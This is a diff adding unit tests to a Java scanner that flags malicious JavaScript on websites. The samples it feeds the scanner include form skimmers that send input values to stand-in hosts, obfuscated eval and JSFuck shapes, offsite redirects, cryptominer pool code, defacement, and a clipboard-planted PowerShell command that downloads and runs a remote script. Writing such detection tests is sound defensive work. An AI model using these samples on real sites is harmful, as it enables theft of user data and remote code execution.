@@ -2,7 +2,10 @@ package jp.mamori.checks.web;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import java.io.IOException;
 import java.net.URI;
+import java.nio.file.Files;
+import java.nio.file.Path;
 import java.util.Base64;
 import java.util.List;
 import org.junit.jupiter.api.Test;
@@ -83,5 +86,94 @@ class ScriptScannerTest {
     ScriptScanner.Result frame = scanner.scan("document.write('<iframe src=\"https://gate.example/\" width=0 height=0>')",
         PAGE);
     assertThat(frame.iframeTags()).hasSize(1);
+  }
+
+  @Test
+  void moreObfuscationShapes() {
+    assertThat(scanner.obfuscation("window[\"\\x65\\x76\\x61\\x6c\"](x)", false)).contains("escaped-property-names");
+    assertThat(scanner.obfuscation("w[\"\\u0065\\u0076\\u0061\\u006c\"](x)", true)).contains("escaped-property-names");
+    // a JSON translation list written with unicode escapes is not property access
+    assertThat(scanner.obfuscation("{\"Error:\":[\"\\u30a8\\u30e9\\u30fc:\"]}", false)).isEmpty();
+    assertThat(scanner.obfuscation("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]]", false))
+        .contains("jsfuck");
+    assertThat(scanner.obfuscation("ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻ //*´∇｀*/ ['_'];", false)).contains("aa/jj-encode");
+    assertThat(scanner.obfuscation("var d='" + b64("alert(1)") + "';var f=new Function(atob(d));f();", false))
+        .isNotEmpty();
+    assertThat(scanner.obfuscation("var c=atob(x);new Function(c)();", false)).containsExactly("decoded-code-run");
+    assertThat(scanner.obfuscation("eval(String.fromCharCode.apply(null,[118,97,114,32,115,61,49,59,97,61,50,59]))", false))
+        .contains("fromCharCode-chain");
+    assertThat(scanner.obfuscation("setTimeout(atob('" + b64("alert(1)") + "'),10)", false)).contains("eval-decode");
+  }
+
+  @Test
+  void skimmersWithTheDropInAVariableOrHidden() {
+    assertThat(checks("var k='https://drop.example/p.gif';document.addEventListener('submit',function(){var d={};"
+        + "document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});new Image().src=k+'?'+"
+        + "btoa(JSON.stringify(d));});")).contains("web.skimmer");
+    assertThat(checks("$('form').on('submit',function(){$.post('http://198.51.100.7/g.php',{d:btoa($(this).serialize())})})"))
+        .contains("web.skimmer");
+    assertThat(fileChecks("var h='https://'+'drop'+'.example/s';document.addEventListener('submit',function(e){"
+        + "navigator.sendBeacon(h, new FormData(e.target))});")).contains("web.skimmer");
+    // a library that builds an API URL and reads one value is not
+    assertThat(fileChecks("var api='https://'+'api'+'.example/v1';function f(el){return fetch(api+'?q='+el.value)}"))
+        .doesNotContain("web.skimmer");
+    assertThat(fileChecks("var h=\"" + "\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f" + "drop.example/s\";document.addEventListener("
+        + "'submit',function(e){navigator.sendBeacon(h,e.target.elements[0].value)});")).contains("web.skimmer");
+    // a postal-code lookup reads one field and asks a public API: not a skimmer
+    assertThat(checks("$('#zip').on('blur',function(){$.getJSON('https://zip-api.example/search',{zipcode:$(this).val()},"
+        + "function(d){$('#addr').val(d.address)})})")).doesNotContain("web.skimmer");
+  }
+
+  @Test
+  void redirectsInBracketsAndInFiles() {
+    assertThat(checks("window['location']['href']='https://casino.example/';")).containsExactly("web.redirect-offsite");
+    assertThat(checks("window.top.location='https://casino.example/';")).containsExactly("web.redirect-offsite");
+    String referrer = "if(/google|yahoo/.test(document.referrer)){window.location.replace('https://casino.example/')}";
+    assertThat(fileChecks(referrer)).containsExactly("web.redirect-search-referrer");
+    assertThat(fileChecks("function go(u){window.location.href='https://partner.example/'+u}")).isEmpty();
+  }
+
+  @Test
+  void minerShapesClickFixAndScriptDefacement() {
+    assertThat(checks("var m=new CryptoX.Anonymous('k',{throttle:0.3});m.start();")).contains("web.cryptominer");
+    assertThat(checks("for(var i=0;i<navigator.hardwareConcurrency;i++){var w=new Worker(u);w.postMessage({wallet:'x',"
+        + "coin:'monero',hashes:0})}")).contains("web.cryptominer");
+    assertThat(checks("var p=new WebSocket('wss://pool.example:3333');p.onopen=function(){p.send(JSON.stringify({method:"
+        + "'login',params:{}}))};p.onmessage=function(m){if(j.method==='job'){}}")).contains("web.cryptominer");
+    assertThat(checks("for(var i=0;i<navigator.hardwareConcurrency;i++){new Worker('/resize.js')}")).isEmpty();
+    assertThat(checks("b.onclick=function(){navigator.clipboard.writeText('powershell -w hidden -c \"iwr https://x.example/s.ps1"
+        + " | iex\"')}")).contains("web.fake-update");
+    assertThat(checks("b.onclick=function(){navigator.clipboard.writeText(location.href)}")).isEmpty();
+    assertThat(checks("document.title='Hacked By Someone';document.body.innerHTML='<h1>Hacked By Someone</h1>';"))
+        .contains("web.defacement");
+    assertThat(checks("document.title='お知らせ | 会社';")).isEmpty();
+  }
+
+  @Test
+  void loadersWithTheTagNameInAVariableAndFromFiles() {
+    ScriptScanner.Result snippet = scanner.scan("(function(d,s){var e=d.createElement(s);e.src='https://'+'tag'+'.example/t.js';"
+        + "d.head.appendChild(e)})(document,'script');", PAGE);
+    assertThat(snippet.loads()).containsExactly(URI.create("https://tag.example/t.js"));
+    ScriptScanner.Result file = scanner.scan("var docs='https://docs.example/api';document.write('<scr'+'ipt src=\"http://"
+        + "loader.example/c.js\"></scr'+'ipt>');", PAGE, true);
+    assertThat(file.loads()).extracting(URI::getHost).containsExactly("loader.example");
+    assertThat(scanner.scan("import('https://esm.example/m.js').then(m=>m.run())", PAGE).loads()).extracting(URI::getHost)
+        .containsExactly("esm.example");
+    assertThat(scanner.scan("document.forms[0].action='https://post.example/r';", PAGE).formActions())
+        .extracting(URI::getHost).containsExactly("post.example");
+  }
+
+  /** The libraries a small site really serves (Debian's copies, see .ci/test-packages.txt) raise nothing. */
+  @Test
+  void realLibrariesAreQuiet() throws IOException {
+    for (String lib : List.of("jquery/jquery.min.js", "jquery/jquery.js", "jquery-migrate-1.min.js",
+        "underscore/underscore.min.js", "bootstrap5/js/bootstrap.bundle.min.js", "jquery-ui/jquery-ui.min.js")) {
+      Path file = Path.of("/usr/share/javascript", lib);
+      assertThat(file).as("%s (install the libjs-* packages of .ci/test-packages.txt)", file).exists();
+      String js = Files.readString(file);
+      assertThat(fileChecks(js)).as(lib).isEmpty();
+      assertThat(checks(js)).as(lib + " inline").doesNotContain("web.skimmer", "web.cryptominer", "web.redirect-offsite",
+          "web.redirect-search-referrer", "web.defacement", "web.fake-update");
+    }
   }
 }
